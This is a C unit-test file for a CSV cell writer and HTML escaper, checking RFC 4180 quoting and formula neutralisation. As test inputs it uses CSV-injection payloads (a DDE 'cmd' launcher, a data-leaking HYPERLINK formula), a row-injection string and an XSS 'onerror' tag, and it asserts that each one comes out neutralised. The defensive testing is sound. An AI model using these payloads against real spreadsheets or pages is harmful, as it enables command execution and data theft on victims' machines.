/* Unit tests for tools/hub/textout.c: the hub's one CSV cell writer (RFC 4180
 * quoting, formula neutralisation as OWASP recommends) and HTML escaping.
 * Each cell is written, then read back with core/csv.c's RFC 4180 reader:
 * what a spreadsheet gets is one cell holding the text, never a formula and
 * never a second row. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "core/csv.h"
#include "tools/hub/textout.h"

static char *cell(const char *s)
{
    char *buf = NULL;
    size_t len = 0;
    FILE *f = open_memstream(&buf, &len);
    assert_non_null(f);
    out_csv(f, s);
    fclose(f);
    return buf;
}

static void expect_cell(const char *in, const char *want)
{
    char *got = cell(in);
    if (strcmp(got, want)) fail_msg("out_csv(\"%s\") = [%s], want [%s]", in, got, want);
    free(got);
}

/* a row "x,CELL,y" read back: three cells, the middle one WANT */
static void expect_reads_back(const char *in, const char *want)
{
    char *buf = NULL;
    size_t len = 0;
    FILE *f = open_memstream(&buf, &len);
    const char *cells[] = {"x", in, "y"};
    out_csv_row(f, cells, 3);
    fputs("last,row,here\n", f);
    fclose(f);
    csv_table t;
    long line = 0;
    char *why = NULL;
    assert_int_equal(csv_parse(buf, len, &t, &line, &why), CSV_OK);
    if (t.nrows != 2) fail_msg("[%s] read back as %zu rows", buf, t.nrows);
    assert_int_equal(t.rows[0].ncells, 3);
    assert_string_equal(t.rows[0].cells[1], want);
    assert_string_equal(t.rows[1].cells[0], "last");
    csv_free(&t);
    free(buf);
}

static void test_plain_cells_unchanged(void **state)
{
    (void)state;
    expect_cell("陈志明", "陈志明");
    expect_cell("广州市天河区天河路100号", "广州市天河区天河路100号");
    expect_cell("2026034401001", "2026034401001");
    expect_cell("", "");
    expect_cell("a=b", "a=b"); /* only the first character makes a formula */
    expect_cell("13800000001", "13800000001");
}

static void test_rfc4180_quoting(void **state)
{
    (void)state;
    expect_cell("a,b", "\"a,b\"");
    expect_cell("say \"hi\"", "\"say \"\"hi\"\"\"");
    expect_cell("two\nlines", "\"two\nlines\"");
    expect_cell("cr\rhere", "\"cr\rhere\"");
    expect_reads_back("a,b", "a,b");
    expect_reads_back("say \"hi\"", "say \"hi\"");
    expect_reads_back("陈志明\n2,2026034401009,假考生,440106********0000,4", "陈志明\n2,2026034401009,假考生,440106********0000,4");
}

static void test_formulas_neutralised(void **state)
{
    (void)state;
    expect_cell("=1+2", "\"'=1+2\"");
    expect_cell("+1+2", "\"'+1+2\"");
    expect_cell("-1+2", "\"'-1+2\"");
    expect_cell("@SUM(1)", "\"'@SUM(1)\"");
    expect_cell("\tx", "\"'\tx\"");
    expect_cell("\rx", "\"'\rx\"");
    expect_cell("  =1+2", "\"'  =1+2\"");
    expect_cell("=HYPERLINK(\"http://x\"&A2,\"y\")", "\"'=HYPERLINK(\"\"http://x\"\"&A2,\"\"y\"\")\"");
    expect_cell("=cmd|' /C calc'!A0", "\"'=cmd|' /C calc'!A0\"");
    expect_cell("+8613800000001", "\"'+8613800000001\""); /* a phone with +: documented, README: CSV exports */
    expect_reads_back("=HYPERLINK(\"http://x\"&A2,\"y\")", "'=HYPERLINK(\"http://x\"&A2,\"y\")");
    expect_reads_back("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0");
    expect_reads_back("@SUM(1)", "'@SUM(1)");
    assert_int_equal(csv_cell_is_formula("=x"), 1);
    assert_int_equal(csv_cell_is_formula(" -x"), 1);
    assert_int_equal(csv_cell_is_formula("x=1"), 0);
    assert_int_equal(csv_cell_is_formula(""), 0);
    assert_int_equal(csv_cell_is_formula("   "), 0);
}

static void test_html_escaping(void **state)
{
    (void)state;
    char *buf = NULL;
    size_t len = 0;
    FILE *f = open_memstream(&buf, &len);
    out_html(f, "<img src=x onerror=\"alert(1)\">&");
    fclose(f);
    assert_string_equal(buf, "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;&amp;");
    free(buf);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_plain_cells_unchanged),
        cmocka_unit_test(test_rfc4180_quoting),
        cmocka_unit_test(test_formulas_neutralised),
        cmocka_unit_test(test_html_escaping),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
